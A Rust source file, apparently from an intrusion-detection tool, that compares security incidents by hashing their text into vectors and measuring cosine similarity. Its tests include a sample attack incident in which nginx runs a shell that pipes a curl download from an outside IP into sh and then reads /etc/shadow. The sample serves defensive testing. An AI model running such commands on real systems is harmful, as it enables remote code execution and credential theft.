//! How alike two incidents are: their texts as numbers, without a model.
//!
//! Words and runs of four characters are hashed into so many numbers (Weinberger et al., "Feature hashing for large scale multitask
//! learning", ICML 2009), and compared by the cosine of the angle between them.

use std::hash::Hasher;

use ethogram_model::Incident;
use rustc_hash::FxHasher;

/// Numbers of a text.
const DIMENSIONS: usize = 512;
/// Characters of a run.
const RUN: usize = 4;
/// Parts of an incident that are compared, and bytes of each.
const MAX_PARTS: usize = 32;
const MAX_TEXT: usize = 256;
/// From this cosine on two are alike: what should be parted was, in a first try.
const ALIKE: f64 = 0.88;

/// An incident's text as numbers, scaled to bytes.
#[derive(Debug, Clone)]
pub(super) struct Likeness {
    numbers: Box<[i8; DIMENSIONS]>,
    length: f64,
}

impl Likeness {
    pub(super) fn of(incident: &Incident) -> Self {
        let mut counts = [0_i32; DIMENSIONS];
        for part in incident.parts.iter().take(MAX_PARTS) {
            for text in [&part.analytic, &part.operation, &part.executable, &part.object] {
                add(&mut counts, &normalised(text));
            }
        }
        let most = counts.iter().map(|count| count.abs()).max().unwrap_or(0).max(1);
        let scale = |count: i32| i8::try_from(count * i32::from(i8::MAX) / most).unwrap_or(0);
        let numbers = Box::new(counts.map(scale));
        let length = numbers.iter().map(|n| f64::from(*n).powi(2)).sum::<f64>().sqrt();
        Self { numbers, length }
    }

    pub(super) fn is_alike(&self, other: &Self) -> bool {
        let product: i32 = self.numbers.iter().zip(&*other.numbers).map(|(a, b)| i32::from(*a) * i32::from(*b)).sum();
        f64::from(product) >= ALIKE * self.length * other.length && self.length > 0.0
    }
}

/// Small letters, and one sign for each number: what differs from one to the next of a kind.
pub(super) fn normalised(text: &str) -> String {
    let mut out = String::with_capacity(text.len().min(MAX_TEXT));
    for c in text.chars().flat_map(char::to_lowercase) {
        if out.len() >= MAX_TEXT {
            break;
        }
        match c.is_ascii_digit() {
            true if out.ends_with('#') => {}
            true => out.push('#'),
            false => out.push(c),
        }
    }
    out
}

fn add(counts: &mut [i32; DIMENSIONS], text: &str) {
    let words = text.split(|c: char| !c.is_alphanumeric() && c != '#').filter(|word| !word.is_empty());
    // A word counts as much as the runs in it.
    words.for_each(|word| count(counts, word.as_bytes(), 2));
    text.as_bytes().windows(RUN).for_each(|run| count(counts, run, 1));
}

fn count(counts: &mut [i32; DIMENSIONS], feature: &[u8], weight: i32) {
    let mut hasher = FxHasher::default();
    hasher.write(feature);
    let hash = hasher.finish();
    // Half of them count negative, so that those that meet in one number do not add up.
    let sign = if hash >> 63 == 0 { weight } else { -weight };
    if let Some(number) = usize::try_from((hash >> 20) % DIMENSIONS as u64).ok().and_then(|at| counts.get_mut(at)) {
        *number += sign;
    }
}

#[cfg(test)]
mod tests {
    use ethogram_model::{Origin, Part, Severity};

    use super::*;

    fn incident(parts: &[(&str, &str, &str)]) -> Likeness {
        let part = |(operation, executable, object): &(&str, &str, &str)| Part {
            operation: (*operation).into(),
            executable: (*executable).into(),
            object: (*object).into(),
            analytic: format!("behaviour.{operation}"),
            ..crate::incidents::tests::part(Severity::Medium)
        };
        let begun = Incident::begun("1".into(), Origin::Child, 1);
        Likeness::of(&Incident { parts: parts.iter().map(part).collect(), ..begun })
    }

    #[test]
    fn the_same_with_other_numbers_is_alike_and_another_deed_is_not() {
        let roll_out = |n: u32| {
            incident(&[
                ("execute", "/usr/sbin/nginx", "/usr/bin/agent --version"),
                ("write", "/usr/bin/agent", &format!("/var/lib/agent/{n}/state")),
                ("connect", "/usr/bin/agent", &format!("10.0.0.{n}:9000")),
            ])
        };
        assert!(roll_out(1).is_alike(&roll_out(27)));
        let shell = incident(&[
            ("execute", "/usr/sbin/nginx", "/bin/sh -c 'curl http://203.0.113.9/x | sh'"),
            ("read", "/bin/cat", "/etc/shadow"),
        ]);
        assert!(!roll_out(1).is_alike(&shell));
        // The same program does the same to another file.
        let reads = |path: &str| incident(&[("read", "/bin/cat", path)]);
        assert!(!reads("/etc/shadow").is_alike(&reads("/srv/www/index.html")));
    }

    #[test]
    fn nothing_is_alike_to_nothing_and_long_texts_are_cut() {
        assert!(!incident(&[]).is_alike(&incident(&[])));
        let long = "/a".repeat(100_000);
        assert!(incident(&[("write", "/bin/a", &long)]).is_alike(&incident(&[("write", "/bin/a", &long)])));
    }
}
